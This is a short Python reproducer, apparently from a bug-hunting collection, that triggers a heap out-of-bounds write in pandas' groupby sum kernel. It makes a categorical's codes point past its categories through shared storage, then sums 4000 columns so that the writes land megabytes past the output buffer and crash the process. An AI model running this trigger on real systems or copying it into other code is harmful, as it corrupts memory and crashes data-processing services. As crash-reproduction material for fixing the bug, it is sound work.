# source: as 014 (pandas/_libs/groupby.pyx group_sum writes at unchecked labels)
# family: codes past the categories used as group labels: groupby kernel heap out-of-bounds write
# goal: with 4000 columns each bad label writes 32 KB rows ~4 MB past the output array: SIGSEGV in the kernel (exit 139) before 'survived' prints
import numpy as np
import pandas as pd

empty = pd.Categorical([None] * 8, categories=pd.Index([], dtype="int64"))
big = pd.Categorical(empty, categories=[f"x{i}" for i in range(126)], copy=False)
big[:] = [f"x{i}" for i in range(118, 126)]
one = empty.add_categories([7])
print("codes:", one.codes, "categories:", list(one.categories), flush=True)
df = pd.DataFrame(np.full((8, 4000), 4.0e4))
r = df.groupby(one, observed=False).sum()
print("survived", r.shape)
